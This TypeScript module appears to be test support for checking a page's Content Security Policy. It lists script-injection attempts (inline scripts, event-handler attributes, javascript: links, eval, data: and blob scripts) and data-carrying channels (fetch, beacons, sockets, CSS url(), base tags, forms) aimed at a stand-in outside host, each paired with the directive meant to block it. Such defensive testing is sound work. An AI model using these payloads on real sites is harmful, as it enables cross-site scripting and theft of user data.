import { MARK } from './stranger.ts';

/** Something an intruder's markup would try in a page; `attempt` runs there. It has worked when the mark is in the page. */
export type Attack = {
	readonly name: string;
	/** The directive that has to forbid it. */
	readonly directive: string;
	readonly attempt: (tools: { readonly mark: string; readonly stranger: string }) => void;
};

/** What an attempt is given: the script that leaves the mark, and the address of a site that serves it. */
export function tools(stranger: string): { readonly mark: string; readonly stranger: string } {
	return { mark: MARK, stranger };
}

/** Ways to have a script of one's own run in a page. */
export const SCRIPTS: readonly Attack[] = [
	{
		name: 'an inline script',
		directive: 'script-src-elem',
		attempt: ({ mark }) => document.body.append(Object.assign(document.createElement('script'), { textContent: mark }))
	},
	{
		name: 'a handler in an attribute, called by an image that fails',
		directive: 'script-src-attr',
		attempt: ({ mark }) => document.body.insertAdjacentHTML('beforeend', `<img alt="" src="data:," onerror="${mark}">`)
	},
	{
		name: 'a handler in an attribute, called by a click',
		directive: 'script-src-attr',
		attempt: ({ mark }) => {
			document.body.insertAdjacentHTML('beforeend', `<p id="clicked" onclick="${mark}">here</p>`);
			document.getElementById('clicked')?.click();
		}
	},
	{
		name: 'a javascript: link',
		directive: 'script-src-elem',
		attempt: ({ mark }) => {
			document.body.insertAdjacentHTML('beforeend', `<a id="followed" href="javascript:void (${mark})">here</a>`);
			document.getElementById('followed')?.click();
		}
	},
	{
		name: 'eval',
		directive: 'script-src',
		// What is evaluated on behalf of the debugger may use eval; a timer's turn is the page's own.
		attempt: ({ mark }) => void setTimeout(() => globalThis.eval(mark))
	},
	{
		name: 'a function made of text',
		directive: 'script-src',
		attempt: ({ mark }) => void setTimeout(() => (new Function(mark) as () => void)())
	},
	{
		name: 'a timer with text',
		directive: 'script-src',
		attempt: ({ mark }) => void setTimeout(() => setTimeout(mark))
	},
	{
		name: 'a script of another site',
		directive: 'script-src-elem',
		attempt: ({ stranger }) => document.body.append(Object.assign(document.createElement('script'), { src: `${stranger}/mark.js` }))
	},
	{
		name: 'a module of another site',
		directive: 'script-src-elem',
		attempt: ({ stranger }) =>
			document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: `${stranger}/mark.js` }))
	},
	{
		name: 'a script in a data: address',
		directive: 'script-src-elem',
		attempt: ({ mark }) => document.body.append(Object.assign(document.createElement('script'), { src: `data:text/javascript,${mark}` }))
	},
	{
		name: 'a script in a blob',
		directive: 'script-src-elem',
		attempt: ({ mark }) => {
			const src = URL.createObjectURL(new Blob([mark], { type: 'text/javascript' }));
			document.body.append(Object.assign(document.createElement('script'), { src }));
		}
	},
	{
		name: 'a frame with a text of its own',
		directive: 'script-src-elem',
		attempt: ({ mark }) =>
			document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script>parent.${mark}</script>` }))
	},
	{
		name: 'a worker',
		directive: 'worker-src',
		attempt: () => {
			const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
			worker.onmessage = () => (document.documentElement.dataset.taken = 'yes');
		}
	}
];

/** Ways to carry something that a page knows to another site; they have worked when that site has been asked for `/prey`. */
export const CARRIERS: readonly Attack[] = [
	{
		name: 'a request',
		directive: 'connect-src',
		attempt: ({ stranger }) => void fetch(`${stranger}/prey`).catch(() => undefined)
	},
	{
		name: 'a beacon',
		directive: 'connect-src',
		attempt: ({ stranger }) => void navigator.sendBeacon(`${stranger}/prey`, 'x')
	},
	{
		name: 'a socket',
		directive: 'connect-src',
		attempt: ({ stranger }) => void new WebSocket(`${stranger.replace('http', 'ws')}/prey`)
	},
	{
		name: 'an image',
		directive: 'img-src',
		attempt: ({ stranger }) => document.body.append(Object.assign(new Image(), { src: `${stranger}/prey` }))
	},
	{
		name: 'a frame',
		directive: 'frame-src',
		attempt: ({ stranger }) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${stranger}/prey` }))
	},
	{
		name: 'an object',
		directive: 'object-src',
		attempt: ({ stranger }) => document.body.append(Object.assign(document.createElement('object'), { data: `${stranger}/prey` }))
	},
	{
		name: 'a style sheet',
		directive: 'style-src-elem',
		attempt: ({ stranger }) =>
			document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${stranger}/prey` }))
	},
	{
		name: 'an image of an inline style',
		directive: 'style-src-elem',
		attempt: ({ stranger }) =>
			document.head.append(Object.assign(document.createElement('style'), { textContent: `body { background: url(${stranger}/prey) }` }))
	},
	{
		name: 'an image of a style attribute',
		directive: 'style-src-attr',
		attempt: ({ stranger }) => document.body.insertAdjacentHTML('beforeend', `<p style="background: url(${stranger}/prey)">here</p>`)
	},
	{
		name: 'another base for every address',
		directive: 'base-uri',
		attempt: ({ stranger }) => {
			document.head.append(Object.assign(document.createElement('base'), { href: `${stranger}/` }));
			document.body.append(Object.assign(new Image(), { src: '/prey' }));
		}
	},
	{
		name: 'a form',
		directive: 'form-action',
		attempt: ({ stranger }) => {
			const form = Object.assign(document.createElement('form'), { action: `${stranger}/prey`, method: 'post' });
			document.body.append(form);
			form.submit();
		}
	}
];
